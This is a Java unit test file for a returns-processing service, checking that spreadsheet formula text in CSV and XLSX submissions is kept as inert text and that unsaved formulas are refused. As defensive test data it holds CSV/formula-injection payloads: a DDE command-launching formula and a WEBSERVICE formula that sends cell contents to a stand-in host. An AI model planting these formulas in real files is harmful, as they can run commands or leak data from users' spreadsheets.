package uk.gov.tfwh.returns.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import uk.gov.tfwh.returns.ReturnWriter;
import uk.gov.tfwh.returns.model.Claim;
import uk.gov.tfwh.returns.model.Finding;
import uk.gov.tfwh.returns.model.ReturnOutcome;
import uk.gov.tfwh.returns.model.ReturnSummary;

/**
 * Text that a spreadsheet would run as a formula ({@code = + - @} first) is kept as the text it is,
 * in CSV and XLSX; a workbook's formula cell is read by its cached value, never evaluated. Exports
 * defuse such text when they write it (api/exports).
 */
class FormulaTextTest {
  private static final String DDE = "=cmd|' /C calc'!A0";
  private static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/x\",\"click\")";

  @TempDir Path dir;

  @Test
  void csvFormulaTextIsStoredExactly() {
    new ReturnWriter(dir)
        .set("sro_sign_off", DDE)
        .set("submitted_by", "+cmd@example.gov.uk")
        .write("r");

    HostileFiles.Reading reading = HostileFiles.readOnlyReturn(dir);

    assertThat(reading.outcome().accepted()).as(reading.outcome().findings().toString()).isTrue();
    ReturnSummary summary = reading.outcome().summary().orElseThrow();
    assertThat(summary.sroSignOff()).isEqualTo(DDE);
    assertThat(summary.submittedBy()).isEqualTo("+cmd@example.gov.uk");
  }

  @Test
  void workbookFormulaTextAndFormulaCellsAreNotEvaluated() throws IOException {
    String sheet = HostileFiles.examplePart(HostileFiles.SUMMARY_SHEET);
    String hostile =
        sheet
            .replace(
                "<t xml:space=\"preserve\">A. Director</t>",
                "<t xml:space=\"preserve\">" + xml(HYPERLINK) + "</t>")
            // A formula cell for submitted_by: its cached text is what the return says.
            .replace(
                "<c r=\"L2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">tf.returns@example.gov.uk</t></is></c>",
                "<c r=\"L2\" t=\"str\"><f>WEBSERVICE(\"http://example.invalid/\"&amp;A1)</f>"
                    + "<v>tf.returns@example.gov.uk</v></c>");
    assertThat(hostile).isNotEqualTo(sheet).contains("WEBSERVICE", "HYPERLINK");
    HostileFiles.workbook(
        dir.resolve("formulas.xlsx"),
        Map.of(
            HostileFiles.SUMMARY_SHEET,
            out -> {
              try {
                out.write(hostile.getBytes(StandardCharsets.UTF_8));
              } catch (IOException e) {
                throw new UncheckedIOException(e);
              }
            }));

    HostileFiles.Reading reading = HostileFiles.readOnlyReturn(dir);

    assertThat(reading.outcome().accepted()).as(reading.outcome().findings().toString()).isTrue();
    ReturnSummary summary = reading.outcome().summary().orElseThrow();
    assertThat(summary.sroSignOff()).isEqualTo(HYPERLINK);
    assertThat(summary.submittedBy()).isEqualTo("tf.returns@example.gov.uk");
  }

  /**
   * A workbook written by a program that does not calculate (a script's spreadsheet library) keeps
   * formulas without their values. Such a cell is refused in whatever column it is in, and the
   * message says it is a formula without a saved value and what to do; it was read as an empty
   * cell, so a count said "an empty cell" and a text column took it as empty text.
   */
  @Test
  void aSummaryFormulaSavedWithoutItsValueIsRefusedByItsColumnsRuleAndSaysWhatToDo()
      throws IOException {
    writeWorkbook(
        Map.of(
            HostileFiles.SUMMARY_SHEET,
            sheet ->
                sheet
                    // a count: a number formula with no value at all
                    .replace("<c r=\"F2\"><v>260</v></c>", "<c r=\"F2\"><f>E2/2</f></c>")
                    // a count: a shared formula, with an empty value as some libraries write it
                    .replace(
                        "<c r=\"H2\"><v>1</v></c>",
                        "<c r=\"H2\"><f t=\"shared\" si=\"0\"/><v></v></c>")
                    // a text column: a text formula with no value
                    .replace(
                        "<c r=\"M2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">A. Director</t></is></c>",
                        "<c r=\"M2\" t=\"str\"><f>CONCAT(\"A. \",\"Director\")</f></c>")));

    ReturnOutcome outcome = HostileFiles.readOnlyReturn(dir).outcome();

    assertThat(outcome.accepted()).isFalse();
    assertThat(outcome.findings())
        .extracting(f -> f.ruleId() + " " + f.column())
        .containsExactlyInAnyOrder(
            "TFQR-S05 families_attached",
            "TFQR-S05 results_continuous_employment",
            "TFQR-S15 sro_sign_off");
    assertThat(outcome.findings())
        .extracting(Finding::message)
        .anySatisfy(
            m ->
                assertThat(m)
                    .contains(
                        "families_attached is a formula ('=E2/2') whose value the workbook did not"
                            + " save. Enter a whole number"))
        .anySatisfy(
            m ->
                assertThat(m)
                    .contains(
                        "results_continuous_employment is a formula ('a shared formula') whose"
                            + " value the workbook did not save."))
        .anySatisfy(
            m ->
                assertThat(m)
                    .contains(
                        "sro_sign_off is a formula ('=CONCAT(\"A. \",\"Director\")') whose value the"
                            + " workbook did not save.")
                    .contains("Type the text in place of a formula"));
  }

  @Test
  void aClaimFormulaSavedWithoutItsValueRejectsItsRowOnlyAndATextFormulaOfNothingIsEmptyText()
      throws IOException {
    writeWorkbook(
        Map.of(
            HostileFiles.CLAIMS_SHEET,
            sheet ->
                sheet
                    // a date formula saved without its value: row 2's attached_on
                    .replace(
                        "<c r=\"B2\" s=\"1\"><v>42095</v></c>",
                        "<c r=\"B2\" s=\"1\"><f>D2-30</f></c>")
                    // problems_at_entry as a formula without its value: row 3, one finding, not two
                    .replace(
                        "<c r=\"E3\" t=\"inlineStr\"><is><t xml:space=\"preserve\">HEALTH;WORKLESSNESS</t></is></c>",
                        "<c r=\"E3\" t=\"str\"><f>A1&amp;\";\"&amp;B1</f></c>"),
            // a text formula whose saved value is "": the revision note is empty, as saved
            HostileFiles.SUMMARY_SHEET,
            sheet ->
                sheet
                    // a number formula saved with its value, as a spreadsheet program saves it
                    .replace("<c r=\"F2\"><v>260</v></c>", "<c r=\"F2\"><f>E2/2</f><v>260</v></c>")
                    .replace(
                        "</c></row></sheetData>",
                        "</c><c r=\"N2\" t=\"str\"><f>IF(1,\"\",\"x\")</f><v></v></c></row>"
                            + "</sheetData>")));

    ReturnOutcome outcome = HostileFiles.readOnlyReturn(dir).outcome();

    assertThat(outcome.accepted()).as(outcome.findings().toString()).isTrue();
    assertThat(outcome.summary().orElseThrow().revisionNote()).isNull();
    assertThat(outcome.summary().orElseThrow().familiesAttached()).isEqualTo(260);
    assertThat(outcome.findings())
        .filteredOn(f -> f.row() != null && f.row() <= 3)
        .extracting(f -> f.ruleId() + " row " + f.row() + " " + f.column())
        .containsExactly("TFQR-C02 row 2 attached_on", "TFQR-C05 row 3 problems_at_entry");
    assertThat(outcome.findings().get(0).message())
        .contains(
            "attached_on is a formula ('=D2-30') whose value the workbook did not save, not a date");
    assertThat(outcome.findings().get(1).message())
        .contains(
            "problems_at_entry is a formula ('=A1&\";\"&B1') whose value the workbook did not save.");
    assertThat(outcome.claims()).extracting(Claim::row).doesNotContain(2, 3).contains(4);
  }

  private void writeWorkbook(Map<String, UnaryOperator<String>> changes) throws IOException {
    HostileFiles.workbookWithChanged(dir.resolve("formulas.xlsx"), changes);
  }

  private static String xml(String text) {
    return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
  }
}
